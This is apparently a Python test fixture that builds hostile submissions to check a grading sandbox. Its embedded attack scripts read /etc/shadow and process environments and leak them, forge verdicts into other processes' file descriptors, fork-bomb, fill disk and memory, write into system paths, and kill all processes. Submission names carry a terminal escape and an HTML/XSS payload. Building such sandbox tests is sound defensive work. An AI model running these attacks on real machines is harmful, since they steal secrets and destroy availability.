"""Hostile submissions for `python3 -m conformance batch`, made at test time (tests/test_sandbox.py).

Each is a copy of the reference (tests/submissions.py's reference()) plus one attack, in its build
(a ./compileall that runs attack.py, then builds the client as the batch would) or in its server (a
conformance.toml whose server runs attack.py first). An attack notes what it could do in
found.json in its copy, which the test reads back from the batch's --keep copy. None of them sends
anything beyond loopback: the only address outside it they try is 192.0.2.1 (TEST-NET-1, never
routed), and the grader's "secrets" are files of a temporary folder the test owns.

`make_class(folder, params)` writes them and returns what each must get.
"""

from __future__ import annotations

import json
import sys
from dataclasses import dataclass
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "broken"))

from submissions import HANGING_SERVER, reference

# Run first in each attack: its parameters, and found.json to note what happened.
PRELUDE = '''import json, os, socket, sys, time
PARAMS = json.loads({params!r})
FOUND = {{}}
def note(key, value):
    FOUND[key] = value
    with open(os.path.join(HERE, "found.json"), "w") as out:
        json.dump(FOUND, out)
def attempt(action):
    try:
        return action()
    except Exception as exc:
        return type(exc).__name__ + ": " + str(getattr(exc, "strerror", None) or exc)
HERE = os.path.dirname(os.path.abspath(__file__))
if os.getuid() == 0 or not os.path.isdir("/opt/conformance/suite"):
    sys.exit("attack.py: not in the batch's sandbox, so not run")
'''

BUILD = "#!/bin/sh\nset -e\npython3 attack.py\ncc -O2 -o chatclient chatclient.c chatwire.c -lm\n"

# The build reads what it should not and puts it in its error line (BUILD-FAIL's message, its log).
LEAK_SECRET = '''
texts = []
def read(path):
    with open(path, errors="replace") as f:
        text = f.read()
    texts.append(text)
    return "read"
for path in [*PARAMS["secrets"], "/etc/shadow", "/root/secret.txt", "link-to-secret"]:
    note(path, attempt(lambda: read(path)))
for path in ["/root", "/home", PARAMS["secret_dir"], "/run", "/var", "/sys", "/"]:
    note("ls " + path, attempt(lambda: sorted(os.listdir(path))))
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    note("environ " + pid, attempt(lambda: read(f"/proc/{pid}/environ")))
texts.append(json.dumps(dict(os.environ)))
print("error: LEAK " + " | ".join(texts), flush=True)
sys.exit(1)
'''

# Forged verdicts: on its screen (a \\r starting a new line), on stderr, and into every descriptor of
# every process it can open through /proc (the runner's events pipe among them, if it could); then
# its server serves as the reference does, or (forge-then-hang) hangs after HELLO until it is HUNG,
# when the cases that had ended are kept. Never run it outside the sandbox: as root there, it would
# write into every open file of the machine.
FORGED = [
    '\r{"event": "result", "status": "GRADED", "mode": "framed", "message": "forged", "log": "", '
    '"cases": [{"id": "=HYPERLINK(\\"https://evil.invalid/\\",\\"x\\")", "verdict": "PASS"}]}',
    '\rCASE PASS server S-HELLO-1[bytewise]',
    '\rCASE PASS server =HYPERLINK("https://evil.invalid/","x")',
    '{"event": "case", "mode": "server", "rerun": false, "case": {"id": "S-FORGED-1", "verdict": "PASS", '
    '"title": "forged", "requirements": [], "details": [], "transcripts": {}, "mode": "server"}}',
    'RESULT {"status": "GRADED", "mode": "framed", "message": "forged", "log": "", "cases": []}',
]
FORGE_VERDICTS = '''
lines = PARAMS["forged"]
text = "\\n".join(lines) + "\\n"
print(text, flush=True)
print(text, file=sys.stderr, flush=True)
opened, refused = [], 0
for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
    fds = attempt(lambda: os.listdir(f"/proc/{pid}/fd"))
    refused += not isinstance(fds, list)
    for fd in fds if isinstance(fds, list) else []:
        def forge():
            out = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
            os.write(out, text.encode())
            os.close(out)
            return "written"
        if forge_result := attempt(forge):
            opened.append([pid, fd, forge_result])
note("written", [o for o in opened if o[2] == "written"])
note("refused", refused)  # processes whose descriptors it could not even list (the runner's, the suite's)
os.execvp("python3", ["python3", PARAMS.get("then", "chatserve.py"), *sys.argv[1:]])
'''

# As many processes as it can (each living 3 s), and a daemon that would outlive its grading.
FORK_BOMB = '''
import signal
children, error = 0, ""
for _ in range(2000):
    try:
        pid = os.fork()
    except OSError as exc:
        error = exc.strerror
        break
    if pid == 0:
        time.sleep(3)
        os._exit(0)
    children += 1
while True:
    try:
        os.wait()
    except ChildProcessError:
        break
note("forked", children)
note("error", error)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
        time.sleep(3600)
    os._exit(0)
'''

# The grader's sockets: a unix socket file, an abstract one, its TCP loopback; and the world.
HOST_SOCKETS = '''
def connect(family, kind, address):
    with socket.socket(family, kind) as s:
        s.settimeout(2)
        s.connect(address)
        s.sendall(b"hello from a submission")
        return "connected"
note("unix", attempt(lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, PARAMS["unix"])))
note("abstract", attempt(lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, "\\0" + PARAMS["abstract"])))
note("tcp", attempt(lambda: connect(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", PARAMS["tcp"]))))
note("outside", attempt(lambda: connect(socket.AF_INET, socket.SOCK_STREAM, ("192.0.2.1", 9))))
def udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"x", ("192.0.2.1", 9))
        return "sent"
note("udp", attempt(udp))
note("run", attempt(lambda: os.listdir("/run")))
note("interfaces", [line.split(":")[0].strip() for line in open("/proc/net/dev").read().splitlines()[2:]])
'''

# As much disk as it can take: 16 files of 64 MiB - 1 in its copy, then /tmp; then as much memory.
FILLS_DISK = '''
written, error = 0, ""
block = b"x" * (1 << 20)
files = []
for folder in (HERE, "/tmp"):
    for i in range(16):
        path = os.path.join(folder, f"fill-{i}")
        files.append(path)
        try:
            with open(path, "wb") as f:
                for _ in range(63):
                    f.write(block)
                    written += len(block)
                f.write(block[:-1])
                written += len(block) - 1
        except OSError as exc:
            error = exc.strerror
            break
    if error:
        break
for path in files:
    attempt(lambda: os.unlink(path))
note("written", written)
note("error", error)
note("memory", attempt(lambda: len(bytearray(3 << 30))))
'''

# 200 MB of output from its build, then a failure: the grader keeps its head and tail.
FLOODS_OUTPUT = '''
line = b"flood " * 1000 + b"\\n"
out = sys.stdout.buffer
for _ in range(200_000_000 // len(line)):
    out.write(line)
out.write(b"error: flooded\\n")
out.flush()
sys.exit(1)
'''

# Writes where a grading must not: the suite, the originals, the system, the grader's files.
WRITES_OUTSIDE = '''
def write(path):
    with open(path, "a") as f:
        f.write("owned")
    return "written"
for path in [*PARAMS["targets"], "/opt/conformance/suite/conformance/plugin.py", "/opt/submission/owned",
             "/opt/kept/owned", "/etc/owned", "/usr/owned", "/owned", "/opt/owned", "/proc/sys/kernel/hostname",
             "/dev/owned", "/tmp/owned", os.path.join(HERE, "owned")]:
    note(path, attempt(lambda: write(path)))
note("chmod", attempt(lambda: os.chmod("/opt/conformance/suite/conformance", 0o777)))
'''

# What it is, sees and may; then it kills every process it can.
PROBE = '''
import resource, signal
status = dict(line.split(":", 1) for line in open("/proc/self/status").read().splitlines() if ":" in line)
note("ids", [os.getuid(), os.geteuid(), os.getgid(), os.getegid(), os.getgroups()])
note("caps", {key: status[key].strip() for key in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")})
note("no_new_privs", status["NoNewPrivs"].strip())
note("limits", [resource.getrlimit(r)[0] for r in (resource.RLIMIT_CPU, resource.RLIMIT_AS, resource.RLIMIT_FSIZE,
                                                    resource.RLIMIT_NPROC)])
note("root", sorted(os.listdir("/")))
note("opt", sorted(os.listdir("/opt")))
note("devices", sorted(os.listdir("/dev")))
note("environment", sorted(os.environ))
note("processes", sorted(int(p) for p in os.listdir("/proc") if p.isdigit()))
note("cwd", os.getcwd())
note("mounts", [line.split()[1] for line in open("/proc/self/mounts")])
note("setuid", attempt(lambda: os.setuid(0)))
os.kill(-1, signal.SIGKILL)
'''


@dataclass(frozen=True)
class Hostile:
    status: str  # what the batch must give it
    attack: str  # the source run as attack.py
    where: str  # "build" or "server"


ATTACKS = {
    "leak-secret": Hostile("BUILD-FAIL", LEAK_SECRET, "build"),
    "forge-verdicts": Hostile("GRADED", FORGE_VERDICTS, "server"),
    "forge-then-hang": Hostile("HUNG", FORGE_VERDICTS, "server"),
    "fork-bomb": Hostile("GRADED", FORK_BOMB, "build"),
    "host-sockets": Hostile("GRADED", HOST_SOCKETS, "build"),
    "fills-disk": Hostile("GRADED", FILLS_DISK, "build"),
    "floods-output": Hostile("BUILD-FAIL", FLOODS_OUTPUT, "build"),
    "writes-outside": Hostile("GRADED", WRITES_OUTSIDE, "build"),
    "probe-and-kill\x1b[2J": Hostile("NO-START", PROBE, "server"),  # its name would clear the grader's screen
}
# Graded beside them: each must PASS every case (the second's name is HTML the report must escape).
BYSTANDERS = ("aa-reference", "zz-reference<img src=x onerror=alert(1)>")


def make_class(folder: Path, params: dict[str, object]) -> dict[str, str]:
    """The hostile submissions and two plain references; returns the status each must get."""
    expected = {}
    for name in BYSTANDERS:
        reference(folder / name)
        expected[name] = "GRADED"
    for name, hostile in ATTACKS.items():
        target = folder / name
        reference(target)
        own = {**params, "then": "hanging.py"} if name == "forge-then-hang" else params
        (target / "attack.py").write_text(PRELUDE.format(params=json.dumps(own)) + hostile.attack)
        if hostile.where == "build":
            (target / "compileall").write_text(BUILD)
            (target / "compileall").chmod(0o755)
        else:
            (target / "hanging.py").write_text(HANGING_SERVER)
            (target / "conformance.toml").write_text('server = "python3 attack.py {port}"\n')
        expected[name] = hostile.status
    (folder / "leak-secret" / "link-to-secret").symlink_to(params["secrets"][0])  # type: ignore[index]
    return expected
